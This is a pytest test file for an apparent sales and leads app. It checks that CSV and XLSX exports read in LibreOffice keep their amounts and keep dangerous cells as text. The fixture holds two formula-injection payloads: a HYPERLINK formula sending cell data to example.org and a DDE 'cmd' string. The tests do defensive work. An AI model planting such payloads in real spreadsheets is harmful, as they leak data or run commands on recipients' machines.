"""A spreadsheet program that nobody here wrote reads our files: the numbers are the same, and nothing runs."""

import csv
import shutil
import subprocess
from datetime import date
from decimal import Decimal
from pathlib import Path

import pytest

from leaddesk.services import leads
from leaddesk.services.books import sales
from leaddesk.services.books.sale_lines import LineDraft
from leaddesk.services.exports.exporting import export
from tests.services.bench import Bench

OFFICE = shutil.which("soffice")
FORMULA, PHONE = '=HYPERLINK("http://example.org/"&A1,"x")', "+390551234567"
DAY = date(2026, 2, 1)
# Commas, quotes, UTF-8, from the first line on; of a file that is read also its language, and numbers found in texts.
AS_CSV = "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false,false,false,1"
READ_ITALIAN = "CSV:59,34,76,1,,1040,false,true,false"

pytestmark = [
    pytest.mark.slow,
    pytest.mark.skipif(OFFICE is None, reason="needs LibreOffice (apt: libreoffice-calc-nogui)"),
]


@pytest.fixture
def shop(bench: Bench) -> Bench:
    anna = bench.won_lead(FORMULA, phone=PHONE, notes="-2+3+cmd|' /C calc'!A0", street="1-2")
    for number, minor in enumerate((122_00, 1_234_567_89, 5), 1):
        sale_id = bench.made(sales.record, anna, f"00{number}", DAY, (LineDraft(rate_bp=2200, gross_minor=minor),))
    bench.do(sales.credit, sale_id - 1, "004", DAY)
    bench.do(leads.edit, anna, {"value_minor": 5_00, "currency": "EUR"})
    return bench


def converted(path: Path, *options: str) -> list[dict[str, str]]:
    """The file as the program shows it after reading and calculating it, as text."""
    folder = path.parent / "read"
    command = [str(OFFICE), f"-env:UserInstallation=file://{path.parent}/profile", "--headless", *options]
    subprocess.run([*command, "--convert-to", AS_CSV, "--outdir", str(folder), str(path)], check=True, timeout=100)
    (read,) = folder.glob(f"{path.stem}*.csv")
    with read.open(encoding="utf-8", newline="") as file:
        return list(csv.DictReader(file))


def amounts(rows: list[dict[str, str]], *headings: str) -> list[tuple[Decimal, ...]]:
    return [tuple(Decimal(row[heading].replace(",", "")) for heading in headings) for row in rows]


WANTED = [
    (Decimal("100"), Decimal("22"), Decimal("122")),
    (Decimal("1011940.89"), Decimal("222627"), Decimal("1234567.89")),
    (Decimal("0.04"), Decimal("0.01"), Decimal("0.05")),
    (Decimal("-1011940.89"), Decimal("-222627"), Decimal("-1234567.89")),
]


def test_a_workbook_of_sales_is_read_with_the_same_numbers(shop: Bench, tmp_path: Path) -> None:
    out = tmp_path / "sales.xlsx"
    export(shop.desk, "sales", out, profile="en")
    rows = converted(out)
    assert amounts(rows, "Net amount", "VAT amount", "Gross amount") == WANTED
    assert {row["Customer"] for row in rows} == {FORMULA}


def test_an_italian_csv_of_sales_is_read_with_the_same_numbers(shop: Bench, tmp_path: Path) -> None:
    out = tmp_path / "sales.csv"
    export(shop.desk, "sales", out, profile="it")
    rows = converted(out, f"--infilter={READ_ITALIAN}")
    assert amounts(rows, "Imponibile", "Imposta", "Totale") == WANTED
    assert {row["Cliente"] for row in rows} == {"'" + FORMULA.replace('"', "”")}


@pytest.mark.parametrize("form", ["csv", "xlsx"])
def test_phones_and_formulas_stay_texts(shop: Bench, tmp_path: Path, form: str) -> None:
    out = tmp_path / f"leads.{form}"
    export(shop.desk, "leads", out, profile="en")
    (row,) = converted(out)
    mark = "'" if form == "csv" else ""
    assert (row["Name"], row["Phone"]) == (mark + FORMULA, mark + PHONE)
    assert row["Notes"] == mark + "-2+3+cmd|' /C calc'!A0"
    assert row["Street"] == "1-2"
